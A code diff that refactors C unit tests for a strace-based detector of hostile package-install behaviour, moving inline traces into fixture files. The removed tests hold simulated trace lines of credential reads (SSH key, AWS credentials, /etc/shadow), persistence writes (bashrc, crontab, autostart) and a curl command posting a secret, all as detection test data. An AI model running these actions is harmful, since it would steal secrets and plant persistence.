@@ -1,16 +1,22 @@
 /* Unit tests for guest/trace.c: strace output (as strace 6.1 prints it
  * with -f -y) into findings, including split lines, relative paths,
- * hostile strings and the allowed places. No tracing happens here. */
+ * hostile strings and the allowed places. The traces that need only their
+ * findings and counts checked are data, tests/fixtures/trace/<case>.strace
+ * beside <case>.strace.expected: adding one needs no C. No tracing happens
+ * here. */
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
 #include <stdint.h>
 #include <cmocka.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <unistd.h>
 
 #include "../../guest/trace.h"
+#include "buf.h"
+#include "fixtures.h"
 #include "jx.h"
 #include "log.h"
 
@@ -49,220 +55,68 @@ finding(const struct guest_findings *f, const char *kind, const char *what)
 	return NULL;
 }
 
-/* The detail of the first finding of kind, or NULL. */
-static const char *
-detail_of(const struct guest_findings *f, const char *kind)
+/*
+ * Run the case tests/fixtures/trace/<name> (strace output, as the agent's
+ * trace file holds it) and compare what it yields with <name>.expected:
+ * one line "KIND DETAIL" a finding, in order, then "critical N" and the
+ * stats line; lines starting with '#' there say what the case is about.
+ * Returns 0 when it matched, printing both if not.
+ */
+static int
+run_case(const char *dir, const char *name)
 {
-	json_t *v = finding(f, kind, "");
-
-	return v ? jx_str(v, "detail") : NULL;
-}
-
-static void
-test_guest_trace_clean_install_has_no_findings(void **state)
-{
+	struct buf text = BUF_INIT(1 << 20), want = BUF_INIT(1 << 20),
+	           got = BUF_INIT(1 << 20);
 	struct guest_trace_stats st = {0};
-	struct guest_findings f = parse(
-	    "100 execve(\"/home/pyti/venv/bin/python3\", [\"python3\", \"-m\", "
-	    "\"pip\"], 0x7ffd /* 3 vars */) = 0\n"
-	    "100 openat(AT_FDCWD</home/pyti/work>, "
-	    "\"/home/pyti/venv/lib/python3.11/site-packages/foo/__init__.py\", "
-	    "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0644) = "
-	    "3</home/pyti/venv/lib/python3.11/site-packages/foo/__init__.py>\n"
-	    "100 openat(AT_FDCWD</home/pyti/work>, \"build/x.o\", "
-	    "O_RDWR|O_CREAT, 0644) = 4</home/pyti/work/build/x.o>\n"
-	    "100 openat(AT_FDCWD</home/pyti/work>, \"/etc/ld.so.cache\", "
-	    "O_RDONLY|O_CLOEXEC) = 3</etc/ld.so.cache>\n"
-	    "100 connect(3<socket:[1]>, {sa_family=AF_UNIX, "
-	    "sun_path=\"/var/run/nscd/socket\"}, 110) = -1 ENOENT (No such "
-	    "file or directory)\n"
-	    "100 vfork( <unfinished ...>\n"
-	    "101 execve(\"/usr/bin/gcc\", [\"gcc\", \"-c\", \"x.c\"], 0x1 /* 1 "
-	    "vars */ <unfinished ...>\n"
-	    "100 <... vfork resumed>)              = 101\n"
-	    "101 <... execve resumed>)             = 0\n"
-	    "101 unlinkat(AT_FDCWD</home/pyti/work>, \"tmp.o\", 0) = 0\n"
-	    "101 mkdir(\"build/lib\", 0777) = 0\n"
-	    "101 execve(\"/usr/local/bin/lsb_release\", [\"lsb_release\", "
-	    "\"-a\"], 0x1 /* 1 vars */) = -1 ENOENT (No such file or "
-	    "directory)\n"
-	    "101 bind(3<socket:[9]>, {sa_family=AF_INET6, sin6_port=htons(0), "
-	    "sin6_flowinfo=htonl(0), inet_pton(AF_INET6, \"::1\", &sin6_addr), "
-	    "sin6_scope_id=0}, 28) = 0\n"
-	    "101 +++ exited with 0 +++\n",
-	    &st);
+	struct guest_findings f;
+	const char *line, *nl;
+	size_t i;
+	json_t *v;
+	int ok;
 
-	assert_int_equal(json_array_size(f.list), 0);
-	assert_int_equal(st.execs, 2);
-	assert_int_equal(st.writes, 2);
-	assert_int_equal(st.calls, 11);
+	if (fixtures_read(dir, name, &text, &want)) {
+		buf_release(&text);
+		buf_release(&want);
+		return -1;
+	}
+	guest_findings_init(&f);
+	guest_trace_parse_text(buf_cstr(&text), text.len, &pol, &f, &st);
+	json_array_foreach(f.list, i, v)
+	{
+		buf_addf(&got, "%s %s\n", jx_str(v, "kind"),
+		         jx_str(v, "detail"));
+	}
+	buf_addf(&got, "critical %d\n", f.critical);
+	buf_addf(&got,
+	         "stats lines=%d calls=%d execs=%d writes=%d connects=%d\n",
+	         st.lines, st.calls, st.execs, st.writes, st.connects);
 	guest_findings_release(&f);
+	/* the comments of the expected file are not the parser's */
+	for (line = buf_cstr(&want); *line == '#'; line = nl + 1) {
+		nl = strchr(line, '\n');
+		if (!nl) {
+			line += strlen(line);
+			break;
+		}
+	}
+	ok = !strcmp(buf_cstr(&got), line);
+	if (!ok)
+		fprintf(stderr, "# %s:\n# got:\n%.4000s# want:\n%.4000s", name,
+		        buf_cstr(&got), line);
+	buf_release(&text);
+	buf_release(&want);
+	buf_release(&got);
+	return ok ? 0 : -1;
 }
 
 static void
-test_guest_trace_network_attempts(void **state)
+test_guest_trace_fixtures(void **state)
 {
-	struct guest_findings f = parse(
-	    "7 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
-	    "0\n"
-	    "7 connect(3<socket:[47531]>, {sa_family=AF_INET, "
-	    "sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.7\")}, 16) = "
-	    "-1 ENETUNREACH (Network is unreachable)\n"
-	    "7 connect(3<socket:[47531]>, {sa_family=AF_INET, "
-	    "sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.7\")}, 16) = "
-	    "-1 ENETUNREACH (Network is unreachable)\n"
-	    "7 sendto(4<socket:[2]>, \"x\", 1, 0, {sa_family=AF_INET6, "
-	    "sin6_port=htons(53), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "
-	    "\"2001:db8::1\", &sin6_addr), sin6_scope_id=0}, 28) = -1 "
-	    "ENETUNREACH (Network is unreachable)\n"
-	    "7 sendto(5<socket:[3]>, \"\\x12\\x34\", 30, MSG_NOSIGNAL, "
-	    "{sa_family=AF_INET, sin_port=htons(53), "
-	    "sin_addr=inet_addr(\"127.0.0.1\")}, 16) = 30\n"
-	    "7 bind(6<socket:[4]>, {sa_family=AF_INET, sin_port=htons(4444), "
-	    "sin_addr=inet_addr(\"0.0.0.0\")}, 16) = 0\n",
-	    NULL);
+	static const char *const exts[] = {".strace", NULL};
+	int cases;
 
-	/* the repeated connect is one finding; the stub query is none */
-	assert_int_equal(guest_findings_count(&f, "network.connect"), 1);
-	assert_string_equal(detail_of(&f, "network.connect"),
-	                    "connect to 203.0.113.7 port 443 (inet): "
-	                    "ENETUNREACH");
-	assert_int_equal(guest_findings_count(&f, "network.dns"), 1);
-	assert_string_equal(detail_of(&f, "network.dns"),
-	                    "DNS query to 2001:db8::1 port 53");
-	assert_int_equal(guest_findings_count(&f, "network.listen"), 1);
-	assert_int_equal(f.critical, 2);
-	guest_findings_release(&f);
-}
-
-static void
-test_guest_trace_files_canaries_channel_persistence(void **state)
-{
-	struct guest_findings f = parse(
-	    "9 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
-	    "0\n"
-	    "9 openat(AT_FDCWD</home/pyti/work>, \"../.ssh/id_rsa\", "
-	    "O_RDONLY|O_CLOEXEC) = 3</home/pyti/.ssh/id_rsa>\n"
-	    "9 openat(AT_FDCWD</home/pyti/work>, "
-	    "\"/home/pyti/.aws/credentials\", O_RDONLY) = -1 EACCES "
-	    "(Permission denied)\n"
-	    "9 openat(AT_FDCWD</>, \"/dev/vport2p1\", O_WRONLY) = -1 EACCES "
-	    "(Permission denied)\n"
-	    "9 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/.bashrc\", "
-	    "O_WRONLY|O_APPEND) = 3</home/pyti/.bashrc>\n"
-	    "9 openat(AT_FDCWD</home/pyti/work>, "
-	    "\"/home/pyti/venv/lib/python3.11/site-packages/"
-	    "sitecustomize.py\", O_WRONLY|O_CREAT|O_TRUNC, 0666) = "
-	    "3</home/pyti/venv/lib/python3.11/site-packages/sitecustomize.py>\n"
-	    "9 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/notes.txt\", "
-	    "O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</home/pyti/notes.txt>\n"
-	    "9 openat(AT_FDCWD</home/pyti/work>, \"/etc/shadow\", O_RDONLY) = "
-	    "-1 EACCES (Permission denied)\n"
-	    "9 unlink(\"/home/pyti/.gitconfig\") = 0\n"
-	    "9 rename(\"/tmp/a\", \"/home/pyti/.config/autostart/x.desktop\") "
-	    "= 0\n"
-	    "9 openat(AT_FDCWD</>, \"/var/spool/cron/crontabs/pyti\", "
-	    "O_WRONLY|O_CREAT, 0600) = -1 EACCES (Permission denied)\n",
-	    NULL);
-
-	assert_int_equal(guest_findings_count(&f, "credential.read"), 2);
-	assert_int_equal(guest_findings_count(&f, "channel.forgery"), 1);
-	assert_int_equal(guest_findings_count(&f, "persistence.bashrc"), 1);
-	assert_int_equal(guest_findings_count(&f, "persistence.sitecustomize"),
-	                 1);
-	assert_int_equal(guest_findings_count(&f, "file.write_outside"), 1);
-	assert_string_equal(detail_of(&f, "file.write_outside"),
-	                    "wrote /home/pyti/notes.txt");
-	assert_int_equal(guest_findings_count(&f, "file.read_sensitive"), 1);
-	assert_int_equal(guest_findings_count(&f, "file.delete_outside"), 1);
-	assert_int_equal(guest_findings_count(&f, "persistence.autostart"), 1);
-	/* a refused write is the same finding, marked as an attempt */
-	assert_int_equal(guest_findings_count(&f, "persistence.crontab"), 1);
-	assert_string_equal(detail_of(&f, "persistence.crontab"),
-	                    "tried to write /var/spool/cron/crontabs/pyti: "
-	                    "EACCES");
-	guest_findings_release(&f);
-}
-
-static void
-test_guest_trace_exec_and_fork_failure(void **state)
-{
-	struct guest_findings f = parse(
-	    "5 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
-	    "0\n"
-	    "6 execve(\"/bin/sh\", [\"/bin/sh\", \"-c\", \"echo $AWS_SECRET | "
-	    "base64\"], 0x1 /* 20 vars */) = 0\n"
-	    "7 execve(\"/usr/bin/crontab\", [\"crontab\", \"-\"], 0x1 /* 20 "
-	    "vars */) = 0\n"
-	    "8 execve(\"/usr/bin/curl\", [\"curl\", \"-d\", "
-	    "\"k=pyti-canary-aws-secret-00\", \"http://x\"], 0x1 /* 1 vars */) "
-	    "= -1 ENOENT (No such file or directory)\n"
-	    "9 execve(\"./payload\", [\"./payload\"], 0x1 /* 1 vars */) = 0\n"
-	    "5 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|SIGCHLD, "
-	    "child_tidptr=0x7f) = -1 EAGAIN (Resource temporarily "
-	    "unavailable)\n"
-	    "5 clone(child_stack=NULL, flags=SIGCHLD) = -1 EAGAIN (Resource "
-	    "temporarily unavailable)\n",
-	    NULL);
-
-	assert_int_equal(guest_findings_count(&f, "process.exec"), 4);
-	assert_int_equal(guest_findings_count(&f, "persistence.crontab"), 1);
-	assert_int_equal(guest_findings_count(&f, "credential.leak"), 1);
-	assert_int_equal(guest_findings_count(&f, "resource.fork_bomb"), 1);
-	assert_non_null(strstr(detail_of(&f, "process.exec"), "/bin/sh"));
-	guest_findings_release(&f);
-}
-
-/* A disk filler that stops at RLIMIT_FSIZE and deletes its file leaves no
- * trace in the disk samples between two ticks: the SIGXFSZ line (strace
- * sees the signal although Python ignores it) is the finding, once. */
-static void
-test_guest_trace_file_size_signal_is_disk(void **state)
-{
-	struct guest_findings f = parse(
-	    "5 openat(AT_FDCWD</w>, \"/tmp/.fill\", "
-	    "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 3</tmp/.fill>\n"
-	    "5 --- SIGXFSZ {si_signo=SIGXFSZ, si_code=SI_USER, si_pid=5, "
-	    "si_uid=1000} ---\n"
-	    "6 --- SIGXFSZ {si_signo=SIGXFSZ, si_code=SI_USER, si_pid=6, "
-	    "si_uid=1000} ---\n"
-	    "5 --- SIGCHLD {si_signo=SIGCHLD} ---\n"
-	    "5 unlink(\"/tmp/.fill\") = 0\n",
-	    NULL);
-	struct guest_findings g = parse(
-	    "5 write(1, \"--- SIGXFSZ {}\", 14) = 14\n"
-	    "5 openat(AT_FDCWD, \"/tmp/--- SIGXFSZ \", O_RDONLY) = 3\n",
-	    NULL);
-
-	assert_int_equal(guest_findings_count(&f, "resource.disk"), 1);
-	assert_non_null(strstr(detail_of(&f, "resource.disk"), "pid 5"));
-	assert_int_equal(guest_findings_count(&g, "resource.disk"), 0);
-	guest_findings_release(&f);
-	guest_findings_release(&g);
-}
-
-/* poetry-core, setuptools-scm, hatch-vcs look for git: execvp() walks
- * PATH, whose first entries are pip's build environment (under /tmp) and
- * the venv (under $HOME). A program that is in none of them was not run:
- * no finding, unless it is one that matters (curl, a shell). */
-static void
-test_guest_trace_path_lookup_is_no_exec(void **state)
-{
-	struct guest_findings f = parse(
-	    "5 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
-	    "0\n"
-	    "6 execve(\"/tmp/pip-build-env-cg0d/overlay/bin/git\", [\"git\", "
-	    "\"rev-parse\"], 0x1 /* 9 vars */) = -1 ENOENT (No such file or "
-	    "directory)\n"
-	    "6 execve(\"/home/pyti/venv/bin/git\", [\"git\", \"rev-parse\"], "
-	    "0x1 /* 9 vars */) = -1 ENOENT (No such file or directory)\n"
-	    "6 execve(\"/tmp/pip-build-env-cg0d/normal/bin/curl\", [\"curl\"], "
-	    "0x1 /* 9 vars */) = -1 ENOENT (No such file or directory)\n",
-	    NULL);
-
-	assert_int_equal(guest_findings_count(&f, "process.exec"), 1);
-	assert_non_null(strstr(detail_of(&f, "process.exec"), "curl"));
-	guest_findings_release(&f);
+	assert_int_equal(fixtures_run("trace", exts, run_case, &cases), 0);
+	assert_true(cases >= 7);
 }
 
 static void
@@ -461,13 +315,7 @@ int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
-	    cmocka_unit_test(test_guest_trace_clean_install_has_no_findings),
-	    cmocka_unit_test(test_guest_trace_network_attempts),
-	    cmocka_unit_test(
-	        test_guest_trace_files_canaries_channel_persistence),
-	    cmocka_unit_test(test_guest_trace_exec_and_fork_failure),
-	    cmocka_unit_test(test_guest_trace_file_size_signal_is_disk),
-	    cmocka_unit_test(test_guest_trace_path_lookup_is_no_exec),
+	    cmocka_unit_test(test_guest_trace_fixtures),
 	    cmocka_unit_test(test_guest_trace_hostile_text),
 	    cmocka_unit_test(test_guest_persistence_and_pth),
 	    cmocka_unit_test(test_guest_findings_cap_dedupe_and_utf8),
